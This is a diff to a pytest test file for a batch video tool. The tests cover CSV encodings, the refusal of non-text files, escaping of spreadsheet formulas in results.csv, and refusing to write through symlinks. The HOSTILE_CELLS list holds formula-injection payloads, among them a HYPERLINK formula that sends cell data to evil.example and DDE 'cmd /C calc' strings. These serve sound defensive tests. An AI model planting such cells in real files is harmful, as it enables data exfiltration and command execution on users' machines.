@@ -2,6 +2,7 @@ import csv
 
 import numpy as np
 import pytest
+from sqlmodel import select
 
 from reelchat import store
 from reelchat.errors import InputFileError
@@ -24,8 +25,8 @@ def _template():
 
 
 def _rendered_shots(workspace):
-    with store._tx(workspace.engine) as db:
-        rows = db.exec(store.select(store.JobShot)).all()
+    with store.transaction(workspace.engine) as db:
+        rows = db.exec(select(store.JobShot)).all()
     return sum(row.status == "rendered" for row in rows)
 
 
@@ -88,3 +89,70 @@ def test_a_person_who_moved_rows_gets_their_own_video(workspace, tmp_path):
     assert [r.status for r in again] == ["done", "done", "done"]
     assert [r.rendered for r in again] == [1, 0, 0]  # Alice and Bob come from the clip cache
     assert np.abs(read_frame(again[1].output, 2.5).astype(int) - alice).mean() < 0.5
+
+
+# --- issue 17: files people bring, and results.csv that never runs or escapes ---------------
+
+PEOPLE = [("José", "Diseño"), ("Anna", "R&D"), ("Smith, Jr.", "Sales")]
+
+
+def _small_template():
+    """One shot whose only variable is in the narration (not rendered here): one clip for all."""
+    board = make_storyboard(1)
+    shot = board.shots[0].model_copy(update={"narration": "Hello Ana"})
+    return templatise(board.model_copy(update={"shots": [shot]}), {"Ana": "name"})
+
+
+@pytest.mark.parametrize(
+    ("encoding", "delimiter"),
+    [("utf-8", ";"), ("cp1252", ","), ("cp1252", ";"), ("utf-16", "\t"), ("utf-8-sig", ","),
+     ("utf-8", "|"), ("utf-32", ",")],
+)  # fmt: skip
+def test_people_csv_from_any_spreadsheet_dialect_and_encoding(tmp_path, encoding, delimiter):
+    path = tmp_path / "people.csv"
+    with path.open("w", encoding=encoding, newline="") as handle:
+        writer = csv.writer(handle, delimiter=delimiter)
+        writer.writerow(["name", "team"])
+        writer.writerows(PEOPLE)
+        writer.writerow(["", ""])  # the empty rows spreadsheets leave at the end
+    assert read_people(path) == [{"name": n, "team": t} for n, t in PEOPLE]
+
+
+def test_people_file_that_is_not_text_is_refused_in_one_sentence(tmp_path):
+    path = tmp_path / "people.csv"
+    path.write_bytes(bytes(range(256)) * 8)
+    with pytest.raises(InputFileError, match="save it from your spreadsheet as 'CSV UTF-8"):
+        read_people(path)
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&B3,"Open")', "=cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"]  # fmt: skip
+
+
+def test_results_csv_neutralises_formula_prefixes(workspace, tmp_path):
+    people = [{"name": cell, "team": cell} for cell in HOSTILE_CELLS]
+    out = tmp_path / "out"
+    run_batch(workspace, AnimaticBackend(), _small_template(), people, out_dir=out,
+              options=StitchOptions(captions=False, narration=False))  # fmt: skip
+    with (out / "results.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert {row[-2] for row in rows[1:]} == {"'" + cell for cell in HOSTILE_CELLS}
+
+
+def test_batch_never_writes_through_a_symlink(workspace, tmp_path):
+    out = tmp_path / "out"
+    out.mkdir()
+    victim, victim_video = tmp_path / "victim.conf", tmp_path / "victim.bin"
+    victim.write_text("victim config")
+    victim_video.write_text("victim 2")
+    (out / "results.csv").symlink_to(victim)
+    (out / "person-0001.mp4").symlink_to(victim_video)
+    people = [{"name": "Ann"}]
+    results = run_batch(workspace, AnimaticBackend(), _small_template(), people, out_dir=out,
+                        options=QUIET)  # fmt: skip
+    assert [r.status for r in results] == ["done"]
+    assert victim.read_text() == "victim config" and victim_video.read_text() == "victim 2"
+    assert not (out / "results.csv").is_symlink() and not (out / "person-0001.mp4").is_symlink()
+    assert (out / "person-0001.mp4").stat().st_size > 1000
